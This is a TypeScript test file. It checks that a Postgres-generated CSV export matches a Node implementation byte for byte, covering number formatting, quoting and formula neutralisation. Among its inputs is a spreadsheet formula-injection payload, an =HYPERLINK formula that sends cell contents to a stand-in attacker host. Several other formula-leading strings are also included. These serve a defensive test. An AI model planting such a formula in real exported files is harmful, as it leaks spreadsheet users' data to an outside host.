import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { createTestDatabase, type TestDatabase } from '@cti/db/testing';
import { booleanCell, csvRecord, numberCell, textCell } from './csv.ts';
import { sqlBooleanCell, sqlCsvLines, sqlListCell, sqlTextCell } from './csv-sql.ts';
import { sqlNumberText, sqlNumberWritable } from './export-sql.ts';
import { doubles } from './test-export-values.ts';

// The CSV export's lines are written by Postgres (csv-sql.ts): every cell must be byte for byte what
// csv.ts writes in Node — numbers as JavaScript prints them, formulas neutralised, quoting only where
// RFC 4180 needs it — whatever the value.

let db: TestDatabase;
before(async () => {
  db = await createTestDatabase({ max: 2 });
});
after(() => db?.drop());

describe('csv-sql: Postgres writes the cells csv.ts writes', () => {
  test('numbers: String(x) wherever sqlNumberWritable says so — every double from 1e-4 to 1e15, 0 for -0', async () => {
    const values = doubles();
    const sql = db.sql;
    const rows = await sql<{ i: number; writable: boolean; cell: string | null }[]>`
      SELECT i::int AS i, ${sqlNumberWritable(sql, sql`x`)} AS writable,
             CASE WHEN ${sqlNumberWritable(sql, sql`x`)} THEN ${sqlNumberText(sql, sql`x`)} END AS cell
        FROM unnest(${values.map(String)}::float8[]) WITH ORDINALITY AS v(x, i)`;
    assert.equal(rows.length, values.length);
    const value = (r: { i: number }) => values[r.i - 1]!;
    const inRange = (x: number) => x === 0 || (Math.abs(x) >= 1e-4 && Math.abs(x) < 1e15);
    const wrong = rows.filter((r) => r.writable && r.cell !== numberCell(value(r)));
    assert.deepEqual(
      wrong.slice(0, 5).map((r) => ({ value: value(r), sql: r.cell, js: numberCell(value(r)) })),
      [],
    );
    assert.deepEqual(
      rows.filter((r) => r.writable !== inRange(value(r))).map(value),
      [],
      'writable: exactly zero and 1e-4 ≤ |x| < 1e15',
    );
    assert.ok(rows.filter((r) => r.writable).length > 6000, 'most samples are in the range');
    const special = await sql<{ writable: boolean; cell: string | null }[]>`
      SELECT ${sqlNumberWritable(sql, sql`x`)} AS writable, ${sqlNumberText(sql, sql`x`)} AS cell
        FROM unnest(${['-0', null, 'NaN', 'Infinity', '-Infinity']}::float8[]) WITH ORDINALITY AS v(x, i) ORDER BY i`;
    assert.deepEqual(
      special.map((r) => (r.writable ? r.cell : 'not writable')),
      ['0', null, 'not writable', 'not writable', 'not writable'],
    );
  });

  test('lines: the same bytes as csv.ts; quotes, CR/LF, commas in a cell and odd numbers come as the row', async () => {
    const texts = [
      'plain',
      '',
      null,
      'Ferme Érable, "Nord"',
      '=HYPERLINK("http://evil.example/?d="&A1,"click")',
      '+41 7',
      '-12',
      '@SUM(A1)',
      '\tlabel',
      '\rx',
      'Barn 2\r\nwest side',
      'a\nb',
      '"',
      ',',
      'Ünïcødé 牛 "7"',
      '\\.',
      "'quoted'",
      ' =not at start',
      'semi;colon',
    ];
    const numbers = [null, -0.5714285714285714, 80.5, 0, 1.5e-5, 1e15, 7.208e22];
    // Every text beside each kind of number, with a boolean (or none) and a list holding the text.
    const cases = texts.flatMap((t, i) =>
      numbers.map((n, j) => ({ t, n, b: (i + j) % 3 === 0 ? null : (i + j) % 2 === 0 })),
    );
    const sql = db.sql;
    const rows = sql`
      SELECT * FROM unnest(${cases.map((c) => c.t)}::text[], ${cases.map((c) => (c.n === null ? null : String(c.n)))}::float8[],
                           ${cases.map((c) => (c.b === null ? null : String(c.b)))}::text[])
                    WITH ORDINALITY AS v(t, n, b, i)
       ORDER BY i DESC`;
    const out = await sql<{ line: string | null; row: string | null }[]>`${sqlCsvLines(sql, rows, {
      cells: [
        sqlTextCell(sql, sql`r.t`),
        sqlNumberText(sql, sql`r.n`),
        sqlListCell(sql, sql`ARRAY[r.t, 'x']`),
        sqlBooleanCell(sql, sql`r.b::boolean`),
        sqlTextCell(sql, sql`r.i::text`),
      ],
      writable: sqlNumberWritable(sql, sql`r.n`),
    })}`;
    type Case = { t: string | null; n: number | null; b: string | boolean | null; i: number };
    const js = (c: Case) =>
      csvRecord([
        textCell(c.t),
        numberCell(c.n),
        textCell([c.t, 'x'].join(';')),
        booleanCell(c.b === null ? null : c.b === true || c.b === 'true'),
        textCell(String(c.i)),
      ]);
    const expected = cases.map((c, k) => js({ ...c, i: k + 1 })).reverse();
    assert.deepEqual(
      out.map((r) => (r.line === null ? js(JSON.parse(r.row!)) : `${r.line}\r\n`)),
      expected,
    );
    // What came as a written line and what as a row: quoting and odd numbers are left to csv.ts.
    const needsQuotes = (t: string | null) => t !== null && /[",\r\n]/.test(t);
    const odd = (n: number | null) => n !== null && n !== 0 && !(Math.abs(n) >= 1e-4 && Math.abs(n) < 1e15);
    assert.deepEqual(
      out.map((r) => r.line === null),
      cases.map((c) => needsQuotes(c.t) || odd(c.n)).reverse(),
    );
    const listed = await sql<{ cell: string | null }[]>`
      SELECT ${sqlListCell(sql, sql`l`)} AS cell
        FROM (VALUES (ARRAY['too_dark', 'ribeye_cut_off']), (ARRAY[]::text[]), (ARRAY['=x', 'a,b']),
                     (ARRAY['a', NULL, 'b']), (NULL::text[])) v(l)`;
    assert.deepEqual(
      listed.map((r) => r.cell),
      [textCell('too_dark;ribeye_cut_off'), '', "'=x;a,b", 'a;;b', null],
    );
  });
});
